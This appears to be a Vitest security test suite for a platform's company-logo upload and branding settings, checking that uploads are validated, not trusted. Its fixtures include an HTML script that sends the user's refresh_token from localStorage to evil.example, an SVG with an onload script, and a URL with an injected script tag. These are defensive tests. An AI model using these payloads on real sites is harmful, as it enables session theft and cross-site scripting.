import { beforeAll, describe, expect, inject, it } from 'vitest';
import { api, DEMO, session } from '../client.js';

type S = Awaited<ReturnType<typeof session>>;
let globex: S;
const base = () => `http://127.0.0.1:${inject('platformEnv').PUBLIC_PORT}`;

beforeAll(async () => {
  globex = await session(...DEMO.globex);
});

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const HTML = Buffer.from('<!doctype html><script>fetch("https://evil.example/?t="+localStorage.getItem("refresh_token"))</script>');

type Target = { upload_url: string; key: string; headers: Record<string, string> };
const ask = async (size: number) => (await api<Target>(`/api/configuration/setting/${globex.companyId}/logo-upload`, { token: globex.access_token, body: { content_type: 'image/png', size } })).body;
const save = (body: unknown) => api<{ errors?: Record<string, string[]> }>(`/api/configuration/setting/${globex.companyId}`, { method: 'PUT', token: globex.access_token, body });
const logoOf = async () => (await api<{ branding: { logo: string | null } }>(`/api/configuration/setting/${globex.companyId}`, { token: globex.access_token })).body.branding.logo;
const fileOf = (key: string) => key.split('/').pop() ?? '';

describe('uploads are checked, not trusted', () => {
  it('HTML uploaded under a PNG logo key, with the signed type, is refused when saved: its bytes are not a PNG', async () => {
    const target = await ask(HTML.length);
    expect((await fetch(target.upload_url, { method: 'PUT', headers: target.headers, body: new Uint8Array(HTML) })).ok).toBe(true);
    const before = await logoOf();
    const res = await save({ branding: { logo_key: target.key } });
    expect(res.status).toBe(422);
    expect(res.body.errors).toHaveProperty('logo');
    expect(await logoOf()).toBe(before);
  });

  it('bytes stored with another type (the bucket did not enforce the signed one) are never served as the logo', async () => {
    const target = await ask(HTML.length);
    await fetch(target.upload_url, { method: 'PUT', headers: { 'content-type': 'text/html' }, body: new Uint8Array(HTML) });
    const served = await fetch(`${base()}/api/branding/logo/${globex.companyId}/${fileOf(target.key)}`, { redirect: 'manual' });
    expect(served.status).toBe(404);
  });

  it('a real PNG is accepted and served as image/png', async () => {
    const target = await ask(PNG.length);
    await fetch(target.upload_url, { method: 'PUT', headers: target.headers, body: new Uint8Array(PNG) });
    expect((await save({ branding: { logo_key: target.key } })).status).toBe(200);
    const served = await fetch(`${base()}${await logoOf()}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await served.arrayBuffer())).toEqual(PNG);
  });

  it.each([
    ['an SVG data URL with script', `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')}`],
    ['a PNG data URL', `data:image/png;base64,${PNG.toString('base64')}`],
    ['a plain http URL', 'http://cdn.example/logo.png'],
    ['an https URL with markup', 'https://cdn.example/"><script>'],
  ])('%s is refused as the logo value and domain info never publishes it', async (_name, logo) => {
    const res = await save({ branding: { logo } });
    expect(res.status).toBe(422);
    expect(res.body.errors).toHaveProperty(['branding.logo']);
    const info = await api<{ branding: { logo: string | null } }>('/api/domain-info?domainorsub=globex.localhost');
    expect(info.body.branding.logo ?? '').not.toMatch(/^data:/);
  });

  it('an https URL is still a valid logo', async () => {
    expect((await save({ branding: { logo: 'https://cdn.example/logo.png' } })).status).toBe(200);
    expect(await logoOf()).toBe('https://cdn.example/logo.png');
  });
});
